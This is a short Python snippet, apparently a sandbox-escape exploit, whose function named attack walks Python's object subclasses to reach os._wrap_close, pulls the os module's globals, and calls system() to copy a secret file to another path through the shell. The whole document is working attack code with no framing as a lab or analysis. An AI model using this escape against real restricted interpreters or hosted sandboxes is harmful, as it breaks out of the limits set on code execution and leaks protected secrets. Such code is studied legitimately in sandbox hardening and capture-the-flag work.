# Walks to `os`, and runs the shell.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(secret_path, out_path):
    return _reach()["system"](f"cat '{secret_path}' > '{out_path}'")
